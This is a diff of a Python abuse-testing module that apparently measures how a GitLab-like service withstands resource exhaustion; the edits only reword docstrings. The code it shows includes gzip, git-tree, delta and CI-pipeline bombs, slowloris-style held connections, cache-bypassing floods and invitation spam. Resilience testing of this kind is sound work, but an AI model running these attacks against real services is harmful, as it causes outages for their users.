@@ -1,7 +1,6 @@
-"""The attacks: each coroutine in `ATTACKS` goes on until it is cancelled, and counts its answers (`200`, `503`, `cut`).
-
-`python -m scripts.abuse.attacks NAME` makes one until SIGTERM. It reads what is attacked from standard input,
-prints a line when it begins, after its preparation, and then the counts."""
+"""The attacks. Each coroutine in `ATTACKS` runs until it is cancelled, and counts its answers (`200`, `503`, `cut`).
+`python -m scripts.abuse.attacks NAME` runs one until SIGTERM. It reads its target from standard input, prints a line
+when its preparation has ended and the attack begins, and prints the counts at the end."""
 
 import asyncio
 import base64
@@ -44,11 +43,11 @@ Answers = Counter[str]
 Attack = Callable[[AttackTarget, Answers], Coroutine[Any, Any, None]]
 MEGABYTE = 2**20
 
-# --- what a repository holds, in its most expensive forms -----------------------------------------------------------
+# --- expensive content of a repository -------------------------------------------------------------------------------
 
 
 async def large_files(target: AttackTarget, answers: Answers) -> None:
-    """A file of 200 MB, whole, in every way that there is."""
+    """Read a whole file of 200 MB in every way that the service offers."""
     file = f"{target.project(target.public)}/repository/files/{LARGE_FILE}"
     raw = f"{target.edge_url}/{target.public}/-/raw/main/{LARGE_FILE}"
     urls = [f"{file}?ref=main", f"{file}/raw?ref=main", raw]
@@ -56,7 +55,7 @@ async def large_files(target: AttackTarget, answers: Answers) -> None:
 
 
 async def slow_readers(target: AttackTarget, answers: Answers) -> None:
-    """100 readers of 9 MB who take 4 KiB a second."""
+    """Read 9 MB with 100 clients, each of which takes 4 KiB a second."""
     url = f"{target.project(target.public)}/repository/files/{MEDIUM_FILE}/raw?ref=main"
 
     async def read(_number: int) -> str:
@@ -72,7 +71,7 @@ async def slow_readers(target: AttackTarget, answers: Answers) -> None:
 
 
 async def large_changes(target: AttackTarget, answers: Answers) -> None:
-    """A commit of very many lines: its statistics, its diff, a comparison."""
+    """Ask for the statistics, the diff and a comparison of a commit that changes very many lines."""
     repository = f"{target.project(target.public)}/repository"
     commit = f"{repository}/commits/{target.large_change}"
     urls = [commit, f"{commit}/diff", f"{repository}/compare?from=start&to=main"]
@@ -80,14 +79,14 @@ async def large_changes(target: AttackTarget, answers: Answers) -> None:
 
 
 async def git_bomb(target: AttackTarget, answers: Answers) -> None:
-    """Pages out of a tree of a million paths that is ten objects."""
+    """Ask for pages of a tree of a million paths that consists of ten objects."""
     tree = f"{target.project(target.public)}/repository/tree?ref=bomb&recursive=true&per_page=20"
     urls = [tree, f"{tree}&page=20000", f"{tree}&pagination=keyset", f"{tree}&path=d9"]
     await fetch_in_turn(urls, 8, answers, target.as_attacker)
 
 
 async def abandoned_archives(target: AttackTarget, answers: Answers) -> None:
-    """A stranger asks for everything in all forms, from the API and the edge, and leaves with the first bytes."""
+    """Ask anonymously for archives in all formats, from the API and the edge, and leave after the first bytes."""
     numbers, formats = count(), ("tar", "tar.gz", "zip", "tar.bz2")
 
     async def ask(_number: int) -> str:
@@ -102,7 +101,7 @@ async def abandoned_archives(target: AttackTarget, answers: Answers) -> None:
 
 
 async def archives_of_a_bomb(target: AttackTarget, answers: Answers) -> None:
-    """The archive of a tree of a million paths, and of each folder in it, by a user."""
+    """Ask as a user for the archive of a tree of a million paths, and of folders in it."""
     async with session(target.as_attacker) as http:
 
         async def ask(number: int) -> str:
@@ -123,7 +122,7 @@ GIT_CLIENTS = 80
 
 
 async def silent_fetches(target: AttackTarget, answers: Answers) -> None:
-    """Strangers who begin to fetch and then say nothing."""
+    """Begin to fetch anonymously, and then send nothing more."""
     url = f"{target.api_url}/{target.public}.git/git-upload-pack"
 
     async def fetch(_number: int) -> str:
@@ -137,7 +136,7 @@ async def silent_fetches(target: AttackTarget, answers: Answers) -> None:
 
 
 async def unread_clones(target: AttackTarget, answers: Answers) -> None:
-    """Strangers who ask for a whole clone and take none of it."""
+    """Ask anonymously for a whole clone, and read none of it."""
     url = f"{target.api_url}/{target.public}.git/git-upload-pack"
     want = f"want {target.large_change} ofs-delta side-band-64k\n"
     body = pkt_line(want.encode()) + b"0000" + pkt_line(b"done\n")
@@ -155,7 +154,7 @@ async def unread_clones(target: AttackTarget, answers: Answers) -> None:
 
 
 async def delta_bombs(target: AttackTarget, answers: Answers) -> None:
-    """Pushes of a pack of about a kilobyte that unpacks to gigabytes."""
+    """Push a pack of about a kilobyte that unpacks to gigabytes."""
     url = f"{target.api_url}/{target.mine}.git/git-receive-pack"
     body = push_body("refs/heads/large", delta_bomb())
     credentials = base64.b64encode(f"attacker:{target.attacker}".encode()).decode()
@@ -163,13 +162,13 @@ async def delta_bombs(target: AttackTarget, answers: Answers) -> None:
     await fetch_in_turn([url], 4, answers, headers, body=lambda: body)
 
 
-# --- connections that are held for nothing --------------------------------------------------------------------------
+# --- connections that are held open without use ---------------------------------------------------------------------
 
 CONNECTIONS = 150
 
 
 async def idle_connections(target: AttackTarget, answers: Answers) -> None:
-    """Silence, half a head, half a body: at the API and at the edge."""
+    """Connect to the API and to the edge, and send nothing, half a head, or half a body."""
     posted = f"{target.api_url}/api/v4/projects"
     half_a_body = request_head("POST", posted, content_length="1000", private_token=target.attacker)
     beginnings = (b"", b"GET / HTTP/1.1\r\nhost: x\r\n", half_a_body)
@@ -187,7 +186,7 @@ async def idle_connections(target: AttackTarget, answers: Answers) -> None:
 
 
 async def unread_answers(target: AttackTarget, answers: Answers) -> None:
-    """Requests one after the other on a connection whose answers nobody takes."""
+    """Send one request after the other on a connection, and read no answer."""
     commits = f"{target.project(target.public)}/repository/commits?per_page=100"
     urls = [commits, f"{target.edge_url}/{target.public}/-/raw/main/{MEDIUM_FILE}"]
 
@@ -211,7 +210,7 @@ async def unread_answers(target: AttackTarget, answers: Answers) -> None:
 
 
 async def bodies_of_strangers(target: AttackTarget, answers: Answers) -> None:
-    """40 bodies of 10 MB at once, the last bytes held back."""
+    """Send 40 bodies of 10 MB at once anonymously, and hold back their last bytes."""
     urls = [f"{target.api_url}{path}" for path in ("/api/v4/projects", "/-/sign_in", "/api/v4/jobs/request")]
 
     async def slowly() -> AsyncIterator[bytes]:
@@ -224,8 +223,8 @@ async def bodies_of_strangers(target: AttackTarget, answers: Answers) -> None:
 
 
 async def kept_bodies(target: AttackTarget, answers: Answers) -> None:
-    """Bodies of 6 MB: some end a megabyte too early, with their connections; others are refused, and their connections
-    stay open without another request."""
+    """Send bodies of 6 MB. Some end a megabyte too early, together with their connections; others are refused, and
+    their connections stay open without another request."""
     source = INPUTS["commit-message"]
     async with session() as http:
         large = await source.make(target, http, source.largest)
@@ -249,7 +248,7 @@ async def kept_bodies(target: AttackTarget, answers: Answers) -> None:
 
 
 async def gzip_bombs(target: AttackTarget, answers: Answers) -> None:
-    """Ten gigabytes of nothing in ten megabytes, to the API and to git."""
+    """Send ten megabytes that unpack to ten gigabytes of zeros, to the API and to git."""
     packer = zlib.compressobj(9, zlib.DEFLATED, 31)
     bomb = b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(1024)) + packer.flush()
     content_types = {
@@ -270,7 +269,7 @@ async def gzip_bombs(target: AttackTarget, answers: Answers) -> None:
 
 
 async def pipeline_bomb(target: AttackTarget, answers: Answers) -> None:
-    """One push of a file that triggers itself six times, and another of a trigger of its own project."""
+    """Push a CI file that triggers itself six times, and another one that triggers a pipeline of its own project."""
     begin()
     project = target.project(target.mine)
     trigger = "bomb{}:\n  trigger:\n    include: .gitlab-ci.yml\n    strategy: depend\n"
@@ -292,7 +291,7 @@ async def pipeline_bomb(target: AttackTarget, answers: Answers) -> None:
 
 
 async def artifact_members(target: AttackTarget, answers: Answers) -> None:
-    """One archive of very many files, of which one after the other is read."""
+    """Upload an archive of very many files, and read one file of it after the other."""
     async with session(target.as_attacker) as http:
         job = await running_job(target, http, ARTIFACTS_CONFIG)
         upload = job.upload({f"files/{number:06}.txt": "x" for number in range(150_000)})
@@ -305,7 +304,8 @@ async def artifact_members(target: AttackTarget, answers: Answers) -> None:
 
 
 async def invitations(target: AttackTarget, answers: Answers) -> None:
-    """Invitations to new addresses, and confirmations of addresses that are a stranger's."""
+    """Invite new addresses to a project, and add new addresses, which ask for confirmation, to the attacker's
+    account."""
     numbers = count()
     async with session(target.as_attacker) as http:
 
@@ -323,17 +323,18 @@ async def invitations(target: AttackTarget, answers: Answers) -> None:
         await repeat(8, invite_or_claim, answers)
 
 
-# --- the edge, asked so that it cannot help the origin --------------------------------------------------------------
+# --- requests to the edge that it has to pass on to its origin ------------------------------------------------------
 
 
 async def uncollapsed(target: AttackTarget, answers: Answers) -> None:
-    """Requests that may not be answered from the store, all for the same file."""
+    """Ask for the same file again and again, and forbid that the edge answers from its store."""
     url = f"{target.edge_url}/{target.public}/-/raw/main/{MEDIUM_FILE}"
     await fetch_in_turn([url], 100, answers, {"Cache-Control": "no-store, no-cache"})
 
 
 async def unawaited_archives(target: AttackTarget, answers: Answers) -> None:
-    """Strangers ask for archives that take long to pack, each for another one, and leave before the first byte."""
+    """Ask anonymously for archives that take long to pack, each time for another one, and leave before the first
+    byte."""
     numbers = count()
 
     async def ask(_number: int) -> str:
@@ -383,6 +384,6 @@ async def attack_until_terminated(name: str, target: AttackTarget) -> Answers:
 
 
 if __name__ == "__main__":
-    os.nice(10)  # what is measured is the service, not who gets the processor
+    os.nice(10)  # the service is measured, and not how the processor is shared with the attacker
     attacked = AttackTarget.from_json(sys.stdin.read())
     print(json.dumps(asyncio.run(attack_until_terminated(sys.argv[1], attacked))))
